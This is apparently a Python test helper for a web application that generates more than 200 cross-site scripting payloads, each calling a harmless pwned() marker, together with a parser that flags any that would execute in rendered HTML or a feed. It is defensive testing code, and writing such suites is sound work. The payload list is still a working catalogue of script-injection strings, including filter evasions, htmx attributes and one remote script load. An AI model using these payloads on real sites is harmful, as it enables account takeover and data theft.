"""Well over 200 ways to smuggle a script into a page, and eyes that see when one got through.

Everything that would run calls or contains ``pwned``; :func:`live` finds it in a rendered page.
"""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product
from xml.etree import ElementTree as ET

CALL = "pwned()"
_TAGS = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "marquee")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter")
_BEFORE = (
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "</template>",
    "</select>",
)
_SCHEMES = (
    "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "java\tscript:pwned()",
    "java\nscript:pwned()", "java&#9;script:pwned()", "&#106;avascript:pwned()",
    "javascript&colon;pwned()", "\x01javascript:pwned()", "javascript://a.example/%0apwned()",
    "vbscript:pwned()", "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=pwned()>",
)  # fmt: skip
_ALONE = (
    "<script>pwned()</script>", "<SCRIPT>pwned()</SCRIPT>", "<script/x>pwned()</script>",
    "<script\n>pwned()</script\t>", "<script>pwned()//", "<<script>pwned()//<</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>", "<script src=//a.example/pwned.js></script>",
    "<script type=module>pwned()</script>", "<svg><script>pwned()</script></svg>",
    "<svg><script href=data:,pwned()></script></svg>", "<svg/onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<svg><set onbegin=pwned()>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,pwned#x></svg>",
    "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    "<math><mtext><img src=x onerror=pwned()></mtext></math>",
    "<math href=javascript:pwned()>x</math>", "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>", "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>", "<form action=javascript:pwned()><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>", "<isindex action=javascript:pwned() type=image>",
    "<base href=javascript:pwned()//>", "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=data:,pwned>", "<link rel=import href=data:text/html,pwned>",
    "<style>@import 'javascript:pwned()';</style>", "<style>*{x:expression(pwned())}</style>",
    "<div style=background:url(javascript:pwned())>", "<div style='width:expression(pwned())'>",
    "<table background=javascript:pwned()>", "<input type=image src=x onerror=pwned()>",
    "<img src=x onerror\n=\npwned()>", "<img src=x onerror=\"pwned()\"", "<img/src=x/onerror=pwned()>",
    "<img src=`x`onerror=pwned()>", "<img \"\"\"><script>pwned()</script>\">", "<img src=x:x onerror=pwned()>",
    "<IMG SRC=x ONERROR=pwned()>", "<img src=x onerror=&#112;wned()>", "<img src=x onerror=pwned`1`>",
    "<image src=x onerror=pwned()>", "<audio src=x onerror=pwned()>", "<video><source onerror=pwned()></video>",
    "<select autofocus onfocus=pwned()>", "<textarea autofocus onfocus=pwned()>", "<keygen autofocus onfocus=pwned()>",
    "<a href=x onclick=pwned()>x</a>", "<a href='x' onclick='pwned()'>x</a>", "<a/href=javascript:pwned()>x</a>",
    "<b onmouseover=pwned()>x</b>", "<x onclick=pwned()>x</x>", "<xss style='x:y' onpointerover=pwned()>x</xss>",
    "<dialog open onclose=pwned()><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle=pwned()>x</div>", "<div contenteditable oninput=pwned()>x</div>",
    "<div hx-on:load='pwned()'>", "<div hx-on::after-request='pwned()'>", "<div data-hx-on:click='pwned()'>",
    "<div hx-get=/ hx-trigger=load hx-vals='js:{a:pwned()}'>", "<div data-hx-vals='javascript:{a:pwned()}'>",
    "<div hx-trigger='load[pwned()]' hx-get=/>", "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<listing>&lt;img onerror=pwned() src=x&gt;</listing>", "<xmp></xmp><img src=x onerror=pwned()>",
    "<!--><img src=x onerror=pwned()>-->", "<!--<img src='--><img src=x onerror=pwned()>'>", "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<?xml version='1.0'?><img src=x onerror=pwned()>", "<%<img src=x onerror=pwned()>", "</<img src=x onerror=pwned()>",
    "<a <img src=x onerror=pwned()>", "<p/><img/src=x/onerror=pwned()//", "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;", "\\u003cscript\\u003epwned()\\u003c/script\\u003e", "%3Cscript%3Epwned()%3C/script%3E",
    "＜script＞pwned()＜/script＞", "\u202e<script>pwned()</script>", "<\u200bscript>pwned()</script>", "<s\u0000cript>pwned()</s\u0000cript>".replace("\0", ""),
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-", "{{constructor.constructor('pwned()')()}}", "{% debug %}{{ pwned }}", "${pwned()}", "#{pwned()}",
    "'-pwned()-'", "\";pwned();//", "';pwned();//", "`;pwned();//", "</script><script>pwned()</script>", "\\\";pwned();//", "*/pwned()/*",
    "\" onmouseover=\"pwned()\" x=\"", "' onmouseover='pwned()' x='", " onmouseover=pwned() x=", "\" autofocus onfocus=pwned() x=\"", "`onmouseover=pwned()",
    "\" style=\"animation-name:x\" onanimationstart=\"pwned()", "\"/onmouseover=pwned()//", "x\" href=\"javascript:pwned()",
    "https://a.example/\" onmouseover=\"pwned()", "https://a.example/'onclick='pwned()", "https://a.example/<img src=x onerror=pwned()>", "www.a.example/<script>pwned()</script>",
    "http://javascript:pwned()", "https://a.example/?x=\"><script>pwned()</script>", "https://a.example/%22onclick=%22pwned()", "HTTPS://A.EXAMPLE/\"ONCLICK=\"pwned()",
    "[x](javascript:pwned())", "[x](data:text/html,pwned)", "![x](x\"onerror=\"pwned())", "[x]: javascript:pwned()", "<javascript:pwned()>", "[a](https://a.example \"\"onclick=pwned()\")",
    "`<script>pwned()</script>`", "```\n<script>pwned()</script>\n```", "*<img src=x onerror=pwned()>*", "> <script>pwned()</script>", "# <script>pwned()</script>",
    "@<script>pwned()</script>", "#<script>pwned()</script>", "@a@b\"onclick=\"pwned()", "#\"onclick=\"pwned()", "mailto:a@b?\"onclick=\"pwned()", "tel:\"onclick=\"pwned()",
    "=HYPERLINK(\"javascript:pwned()\")", "}</style><script>pwned()</script>", "*{background:url(javascript:pwned())}", ";}body{background:url('javascript:pwned()')}",
)  # fmt: skip


def payloads() -> list[str]:
    """Return the corpus: what stands alone, handlers on tags, ways out of contexts, schemes."""
    handlers = [f"<{tag} {handler}={CALL}>" for tag, handler in product(_TAGS, _HANDLERS)]
    ways_out = [f"{before}<script>{CALL}</script>" for before in _BEFORE[1:]]
    ways_out += [f"{before}<img src=x onerror={CALL}>" for before in _BEFORE[1:]]
    links = [f'<a href="{scheme}">x</a>' for scheme in _SCHEMES]
    return list(dict.fromkeys([*_ALONE, *handlers, *ways_out, *links, *_SCHEMES]))


PAYLOADS = payloads()
SCHEMES = _SCHEMES

_LINKS = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite",
    "srcset", "ping", "manifest", "hx-get", "hx-post", "data-hx-get", "data-hx-post",
}  # fmt: skip

_RUNS = ("javascript:", "vbscript:", "data:text", "data:image/svg")


class _Eyes(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # Data for scripts is no script.
        runs = tag == "style" or (tag == "script" and dict(attrs).get("type") != "application/json")
        self._inside = tag if runs else ""
        for name, value in attrs:
            if why := _why(tag, name, value or ""):
                self.found.append(f"<{tag} {name}={(value or '')[:60]!r}>: {why}")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside and "pwned" in data:
            self.found.append(f"<{self._inside}>: {data[:60]!r}")


def _why(tag: str, name: str, value: str) -> str:
    bare = name.removeprefix("data-").removeprefix("hx-")
    if name.startswith("on") or bare.startswith(("on:", "on-")):
        return "a handler"
    said = "".join(sign for sign in value if sign > " ").lower()
    # As a picture no browser runs it; the code for an authenticator app is one.
    drawn = (tag, name) == ("img", "src") and said.startswith("data:image/svg+xml;base64,")
    if name in _LINKS and not drawn and said.startswith(_RUNS):
        return "a link that runs"
    if name in {"srcdoc", "style"} and "pwned" in said:
        return "content that runs"
    if name.endswith(("hx-vals", "hx-headers")) and said.startswith(("js:", "javascript:")):
        return "values that run"
    if name.endswith("hx-trigger") and "pwned" in said:
        return "a condition that runs"
    return "a foreign script" if name == "src" and "a.example" in said and tag != "img" else ""


def live(page: str) -> list[str]:
    """Return what a browser would run of the corpus in a page of HTML."""
    eyes = _Eyes()
    eyes.feed(page)
    eyes.close()
    # Whatever its fellow parser makes of it: a whole payload with its brackets is no text.
    raw = [payload for payload in PAYLOADS if "<" in payload and payload in page]
    return eyes.found + [f"not escaped: {payload[:60]!r}" for payload in raw]


def live_in_feed(document: str) -> list[str]:
    """Return what a reader of a feed would run: texts of the feed are HTML once more."""
    # Our own feed; titles and names are plain text in it.
    elements = ET.fromstring(document).iter()  # noqa: S314
    texts = [element.text or "" for element in elements if element.get("type") == "html"]
    return [found for text in texts for found in live(text)]
